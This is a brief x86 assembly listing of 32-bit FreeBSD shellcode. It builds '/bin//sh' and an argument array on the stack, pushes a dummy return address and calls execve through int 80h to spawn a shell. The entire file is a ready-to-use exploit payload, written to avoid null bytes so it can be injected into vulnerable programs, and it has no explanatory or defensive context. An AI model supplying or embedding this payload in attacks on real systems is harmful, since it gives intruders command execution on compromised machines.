; FreeBSD, 32 bit: execve("/bin/sh") with arguments on the stack behind a return address.
bits 32
        xor eax, eax
        push eax
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push eax
        push ebx
        mov ecx, esp
        push eax
        push ecx
        push ebx
        push eax
        mov al, 59
        int 80h
